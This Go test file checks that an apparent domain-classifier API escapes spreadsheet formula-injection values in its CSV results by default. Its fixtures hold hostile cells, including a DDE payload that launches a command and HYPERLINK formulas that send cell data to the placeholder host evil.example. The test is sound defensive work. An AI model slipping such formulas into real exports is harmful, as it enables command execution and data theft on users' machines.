package httpapi_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"

	"github.com/domainclass/domainclass/classifier"
	"github.com/domainclass/domainclass/db"
	"github.com/domainclass/domainclass/wire"
	"github.com/domainclass/domainclass/wire/csvcell"
)

// TestHostileOutput holds the second hostile review's findings about what
// the API writes out (docs/RELIABILITY.md, "Hostile input"): each failed
// before its fix.
func TestHostileOutput(t *testing.T) {
	t.Parallel()

	const (
		ref       = `@SUM(1+1)*cmd|' /C calc'!A0`
		reasoning = `=HYPERLINK("https://evil.example/?"&A1,"Click")`
		badURL    = `=HYPERLINK("https://evil.example","x")`
	)
	// hostileList is a list whose cells are formulas: a row's input and
	// ref, and an answer stored before evidence addresses were checked.
	hostileList := func(t *testing.T, b *testBundle) string {
		t.Helper()
		r, a := b.upload(t, "text/csv", "domain,ref\n+example.org,-1\nacme.com,\""+strings.ReplaceAll(ref, `"`, `""`)+"\"\n")
		require.Equal(t, http.StatusAccepted, r.status, "%s", r.body)
		_, err := db.ListRowFinish(context.Background(), b.db.Pool, uuid.MustParse(a.ListID), 2, classifier.Result{
			Domain: "acme.com", Classifier: "cpg", Status: classifier.StatusCompleted, Answer: true, Confidence: 5,
			Reasoning: reasoning, Source: classifier.SourceLLM, ClassifiedAt: time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC),
			Model: "m", PromptVersion: "v1", Search: "brave", Evidence: []classifier.EvidenceItem{{URL: badURL, Title: "t"}},
		}, "o")
		require.NoError(t, err)
		return a.ListID
	}

	t.Run("FormulasInListResultsAreEscapedByDefault", func(t *testing.T) {
		t.Parallel()
		b := setup(t, setupOpts{})
		id := hostileList(t, b)
		r := b.do(t, http.MethodGet, "/lists/"+id+"/results", "")
		require.Equal(t, http.StatusOK, r.status)
		records, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
		require.NoError(t, err)
		require.Len(t, records, 3)
		for _, rec := range records {
			for _, cell := range rec {
				require.False(t, csvcell.Risky(cell), "a spreadsheet would run %q", cell)
			}
		}
		require.Equal(t, "'+example.org", records[1][1], "the input")
		require.Equal(t, "'-1", records[1][2], "the ref")
		require.Equal(t, "'"+ref, records[2][2])
		require.Equal(t, "'"+reasoning, records[2][7])
		require.Equal(t, "'"+badURL, records[2][13])
		require.Equal(t, reasoning, csvcell.Unescape(records[2][7]), "a program gets the value back")

		r = b.do(t, http.MethodGet, "/lists/"+id+"/results?escape_formulas=false", "")
		require.Equal(t, http.StatusOK, r.status)
		records, err = csv.NewReader(bytes.NewReader(r.body)).ReadAll()
		require.NoError(t, err)
		require.Equal(t, []string{"+example.org", "-1"}, records[1][1:3], "asked for: the values as stored")
		require.Equal(t, reasoning, records[2][7])

		r = b.do(t, http.MethodGet, "/lists/"+id+"/results?after=1", "", "Accept", "application/x-ndjson")
		var row wire.ListRow
		require.NoError(t, json.Unmarshal(r.body, &row))
		require.Equal(t, ref, row.Ref, "NDJSON is for programs: never escaped")
		require.Equal(t, reasoning, row.Reasoning)

		requireProblem(t, b.do(t, http.MethodGet, "/lists/"+id+"/results?escape_formulas=maybe", ""), http.StatusBadRequest, "invalid-query")
	})
}
